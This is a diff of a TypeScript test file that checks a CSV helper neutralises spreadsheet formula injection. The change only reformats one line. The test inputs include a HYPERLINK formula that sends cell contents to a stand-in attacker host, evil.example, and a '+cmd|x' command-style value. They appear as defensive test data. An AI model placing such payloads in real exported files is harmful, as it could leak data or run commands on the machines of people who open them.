@@ -3,7 +3,9 @@ import { csvCell, neutraliseFormula } from './csv.ts'
 
 describe('CSV cells', () => {
   it('disarms text a spreadsheet would run as a formula', () => {
-    expect(csvCell('=HYPERLINK("http://evil.example/?x="&A1,"x")')).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")"`)
+    expect(csvCell('=HYPERLINK("http://evil.example/?x="&A1,"x")')).toBe(
+      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")"`,
+    )
     expect(csvCell('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)")
     expect(csvCell('+cmd|x')).toBe("'+cmd|x")
     expect(csvCell('-2+3')).toBe("'-2+3")
